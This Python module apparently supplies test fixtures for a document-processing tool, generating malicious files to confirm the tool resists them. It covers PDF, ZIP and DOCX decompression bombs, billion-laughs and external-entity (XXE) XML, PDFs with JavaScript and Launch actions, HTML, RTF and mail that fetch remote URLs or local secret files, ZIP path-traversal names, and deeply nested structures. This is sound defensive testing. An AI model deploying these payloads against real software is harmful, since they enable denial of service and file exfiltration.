"""Files that mean harm, built small; each is to cost one line and nothing else.

What would reach out names `URL` or `SECRET`, which a test sets to a listening port and to a file that must stay closed.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path

FIXTURES = Path(__file__).parents[1] / "fixtures"
TEXT = "Das Land gibt 5 Mio. Euro für die Kitas in Ahausen."
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
LETTERS = "abcdefghijkl"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "haha">' + "".join(
    f'<!ENTITY {letter} "' + f"&{before};" * 10 + '">' for before, letter in pairwise(LETTERS)
)
MEGABYTE = 1_000_000


# ---------------------------------------------------------------------------------------------- PDF


def pdf(*objects: bytes, catalog: bytes = b"<</Type/Catalog/Pages 2 0 R>>") -> bytes:
    """A PDF of these objects, numbered from 2; the catalogue is number 1."""
    data = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate((catalog, *objects), 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(places) + 1
    return data + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        table,
        size,
        len(data),
    )


PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F 12 Tf 72 700 Td (Das Land gibt 5 Mio. Euro.) Tj ET"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


def many_pages(count: int) -> bytes:
    """One page, named `count` times."""
    return pdf(b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b"3 0 R " * count), PAGE, stream(WORDS), FONT)


def claimed_pages() -> bytes:
    """One page, and a count that says 100,000."""
    return pdf(b"<</Type/Pages/Count 100000/Kids[3 0 R]>>", PAGE, stream(WORDS), FONT)


def circular_pages() -> bytes:
    """A page tree that holds itself."""
    return pdf(b"<</Type/Pages/Count 5/Kids[2 0 R 3 0 R 2 0 R]>>", PAGE, stream(WORDS), FONT)


def circular_form() -> bytes:
    """A drawing that draws itself."""
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>")
    form = stream(
        b"/X Do " * 50 + WORDS, b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</X 6 0 R>>>>"
    )
    return pdf(b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream(b"/X Do " * 50), FONT, form)


def deflated_zeros(size: int) -> bytes:
    """So many zero bytes, deflated; the same block again and again, so that making them takes no time."""
    packer = zlib.compressobj(9)
    head = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    count = size // MEGABYTE
    checksum = ((count * MEGABYTE % 65521) << 16) | 1  # Adler-32 of zeros
    return head + block * (count - 1) + b"\x03\x00" + struct.pack(">I", checksum)


def flate_bomb() -> bytes:
    """A page of four gigabytes, packed twice."""
    packed = zlib.compress(deflated_zeros(4000 * MEGABYTE), 9)
    return pdf(b"<</Type/Pages/Count 1/Kids[3 0 R]>>", PAGE, stream(packed, b"/Filter[/FlateDecode/FlateDecode]"), FONT)


def nested_arrays() -> bytes:
    """Arrays within each other, 100,000 deep, in the page's dictionary."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return pdf(
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        PAGE.replace(b"/Page/", b"/Page/Deep " + deep + b"/"),
        stream(WORDS),
        FONT,
    )


def nested_text() -> bytes:
    """Graphics states within each other, a million deep, in the page's content."""
    content = zlib.compress(b"q [[ << " * 1_000_000 + WORDS)
    return pdf(b"<</Type/Pages/Count 1/Kids[3 0 R]>>", PAGE, stream(content, b"/Filter/FlateDecode"), FONT)


def enormous_image() -> bytes:
    """A scan that says it has 60,000 by 60,000 points."""
    page = PAGE.replace(b"/Resources<<", b"/Resources<</XObject<</X 6 0 R>>")
    picture = stream(
        deflated_zeros(3600 * MEGABYTE),
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter/FlateDecode",
    )
    return pdf(b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream(b"595 0 0 842 0 0 cm /X Do"), FONT, picture)


def enormous_page() -> bytes:
    """A page as large as a country, without text."""
    return pdf(
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        PAGE.replace(b"595 842", b"9000000000 9000000000"),
        stream(b"0 0 100 100 re f"),
        FONT,
    )


def reaching_pdf(url: str, secret: str) -> bytes:
    """A PDF that starts a script, opens an address and a file, and has its page's content in another file."""
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>"
        b"/AA<</WC<</S/URI/URI(%s)>>>>>>" % (url.encode(), url.encode())
    )
    outside = b"<</Length 0/F<</Type/Filespec/FS/URL/F(%s)>>>>\nstream\n\nendstream" % url.encode()
    inside = b"<</Length 0/F(%s)>>\nstream\n\nendstream" % secret.encode()
    page = PAGE.replace(
        b"/Contents 4 0 R", b"/Contents[4 0 R 6 0 R 7 0 R]/AA<</O<</S/Launch/F(%s)>>>>" % secret.encode()
    )
    return pdf(b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream(WORDS), FONT, outside, inside, catalog=catalog)


# ---------------------------------------------------------------------------------------------- Office


def package(**parts: str | bytes) -> bytes:
    """A ZIP package; `__` in a name stands for a slash, a file ending is added where there is none."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            path = name.replace("__", "/")
            target.writestr(path if "." in path or path == "mimetype" else f"{path}.xml", content)
    return packed.getvalue()


def docx(document: str | bytes, settings: str | bytes = b"") -> bytes:
    """The DOCX of the fixtures with another main part."""
    packed = io.BytesIO()
    source_path = FIXTURES / "structure.docx"
    with zipfile.ZipFile(source_path) as source, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            new = {"word/document.xml": document, "word/styles.xml": settings}.get(part.filename)
            target.writestr(part.filename, new or source.read(part))
    return packed.getvalue()


def zeros_packed(name: str, size: int) -> bytes:
    """A ZIP archive with one file of zeros, put together by hand: packing so many would take long."""
    packed = deflated_zeros(size)[2:-4]
    entry = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + entry + name.encode() + packed
    listed = b"PK\x01\x02" + struct.pack("<H", 20) + entry + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode()
    return local + listed + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(listed), len(local), 0)


def docx_bomb() -> bytes:
    """A main part of two gigabytes."""
    return zeros_packed("word/document.xml", 2000 * MEGABYTE)


def lying_docx() -> bytes:
    """A main part of two gigabytes that says it has a thousand bytes."""
    size = struct.pack("<I", 2000 * MEGABYTE)
    return docx_bomb().replace(size, struct.pack("<I", 1000))


def nested_tables() -> bytes:
    """Tables within each other, 3,000 deep."""
    start, end = "<w:tbl><w:tr><w:tc>" * 3000, "</w:tc></w:tr></w:tbl>" * 3000
    return docx(f"<w:document {WORD}><w:body>{start}<w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>{end}</w:body></w:document>")


def entities(kind: str, declared: str, used: str) -> bytes:
    """A DOCX, ODT or flat ODT whose text is an entity."""
    if kind == "docx":
        body = f"<w:document {WORD}><w:body><w:p><w:r><w:t>{TEXT} {used}</w:t></w:r></w:p></w:body></w:document>"
        return docx(f'<?xml version="1.0"?>{declared}{body}')
    content = f"<office:body><office:text><text:p>{TEXT} {used}</text:p></office:text></office:body>"
    mimetype = "application/vnd.oasis.opendocument.text"
    if kind == "fodt":
        start = f'<office:document {ODF} office:mimetype="{mimetype}">'
        return f'<?xml version="1.0"?>{declared}{start}{content}</office:document>'.encode()
    start = f"<office:document-content {ODF}>"
    return package(
        mimetype=mimetype, content=f'<?xml version="1.0"?>{declared}{start}{content}</office:document-content>'
    )


def laughing(kind: str) -> bytes:
    """A billion laughs."""
    return entities(kind, LAUGHS + "]>", "&l;")


def outside(kind: str, target: str) -> bytes:
    """An entity that stands for a file or an address, and a document type of the same place."""
    declared = f'<!DOCTYPE x SYSTEM "{target}" [<!ENTITY a SYSTEM "{target}"><!ENTITY % b SYSTEM "{target}"> %b;]>'
    return entities(kind, declared, "&a;")


# ---------------------------------------------------------------------------------------------- HTML, mail, RTF, ZIP


def nested_html(tag: str, depth: int) -> bytes:
    """Elements within each other."""
    return f"<html><body>{f'<{tag}>' * depth}<p>{TEXT}</p>{f'</{tag}>' * depth}</body></html>".encode()


def reaching_html(url: str, secret: str) -> bytes:
    """A page that loads everything a page can load."""
    head = f'<base href="{url}"><link rel=stylesheet href="{url}/a.css"><meta http-equiv=refresh content="0;url={url}">'
    body = "".join(
        f"<{tag}>"
        for tag in (
            f'script src="{url}/a.js"></script',
            f'img src="{url}/a.png"',
            f'iframe src="file://{secret}"></iframe',
            f'object data="{url}/b"></object',
            f'embed src="file://{secret}"',
            f'link rel=import href="{url}/c"',
        )
    )
    return f"<html><head>{head}</head><body>{body}<article><p>{TEXT}</p><p>{TEXT}</p></article></body></html>".encode()


def reaching_xhtml(url: str, secret: str) -> bytes:
    """An XHTML page with a document type and entities from elsewhere."""
    declared = f'<!DOCTYPE html SYSTEM "{url}/x.dtd" [<!ENTITY a SYSTEM "file://{secret}">]>'
    start = '<html xmlns="http://www.w3.org/1999/xhtml"><body>'
    return f'<?xml version="1.0"?>{declared}{start}<p>{TEXT} &a;</p></body></html>'.encode()


def reaching_mail(url: str, secret: str) -> bytes:
    """A mail whose body and attachment lie elsewhere."""
    head = "From: a@example.org\nTo: b@example.org\nSubject: Förderung\nMIME-Version: 1.0\n"
    parts = (
        f'Content-Type: text/html; charset=utf-8\n\n<img src="{url}/pixel"><p>{TEXT}</p>',
        f'Content-Type: message/external-body; access-type=local-file; name="{secret}"\n\nContent-Type: text/plain\n\n',
        f'Content-Type: message/external-body; access-type=URL; URL="{url}"\n\nContent-Type: text/plain\n\n',
    )
    body = "".join(f"--grenze\n{part}\n" for part in parts)
    return f"{head}Content-Type: multipart/mixed; boundary=grenze\n\n{body}--grenze--\n".encode()


def reaching_rtf(url: str, secret: str) -> bytes:
    """RTF with fields and objects from elsewhere."""
    field = rf'{{\field{{\*\fldinst INCLUDEPICTURE "{url}" \\d}}{{\fldrslt Bild}}}}'
    linked = rf'{{\field{{\*\fldinst INCLUDETEXT "{secret}"}}{{\fldrslt }}}}{{\*\template {url}}}'
    return rf"{{\rtf1\ansi {field}{linked} Das Land gibt 5 Mio. Euro.\par}}".encode("latin-1")


def nested_rtf() -> bytes:
    """Groups within each other, 200,000 deep."""
    return rb"{\rtf1 " + b"{" * 200_000 + b"Das Land gibt 5 Mio. Euro." + b"}" * 200_001


def nested_mail(depth: int) -> bytes:
    """Mails within mails."""
    head = "From: a@example.org\nTo: b@example.org\nSubject: s\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
    return f"{head * depth}From: a@example.org\nTo: b@example.org\nSubject: s\n\n{TEXT}\n".encode()


def climbing_archive() -> bytes:
    """A ZIP whose members' names lead out of any folder."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as target:
        for name in ("../../../ausbruch.txt", "/tmp/ausbruch.txt", "..\\..\\ausbruch.txt", "C:\\ausbruch.txt"):
            target.writestr(name, f"{TEXT} {name}")
    return packed.getvalue()


def archive_bomb() -> bytes:
    """A text of two gigabytes in a ZIP in a ZIP."""
    return package(**{"innen.zip": zeros_packed("bombe.txt", 2000 * MEGABYTE), "brief.txt": TEXT})


def russian_dolls() -> bytes:
    """Archives within each other, 30 deep."""
    data = package(**{"brief.txt": TEXT})
    for _ in range(30):
        data = package(**{"innen.zip": data})
    return data


Build = Callable[[], bytes]
HARMFUL: dict[str, Build] = {
    "encrypted.pdf": (FIXTURES / "encrypted.pdf").read_bytes,
    "truncated.pdf": lambda: (FIXTURES / "running-heads.pdf").read_bytes()[:900],
    "truncated.docx": lambda: (FIXTURES / "structure.docx").read_bytes()[:5000],
    "picture.pdf": lambda: b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60000, 60000, 8, 2, 0, 0, 0),
    "many-pages.pdf": lambda: many_pages(100_000),
    "circular-pages.pdf": circular_pages,
    "circular-form.pdf": circular_form,
    "claimed-pages.pdf": claimed_pages,
    "flate-bomb.pdf": flate_bomb,
    "nested-arrays.pdf": nested_arrays,
    "nested-text.pdf": nested_text,
    "enormous-image.pdf": enormous_image,
    "enormous-page.pdf": enormous_page,
    "bomb.docx": docx_bomb,
    "lying.docx": lying_docx,
    "nested-tables.docx": nested_tables,
    "laughs.docx": lambda: laughing("docx"),
    "laughs.odt": lambda: laughing("odt"),
    "laughs.fodt": lambda: laughing("fodt"),
    "nested-divs.html": lambda: nested_html("div", 100_000),
    "nested-tables.html": lambda: nested_html("table><tr><td", 30_000),
    "nested-bold.html": lambda: nested_html("b", 100_000),
    "nested.rtf": nested_rtf,
    "nested.eml": lambda: nested_mail(3000),
    "bomb.zip": archive_bomb,
    "dolls.zip": russian_dolls,
}
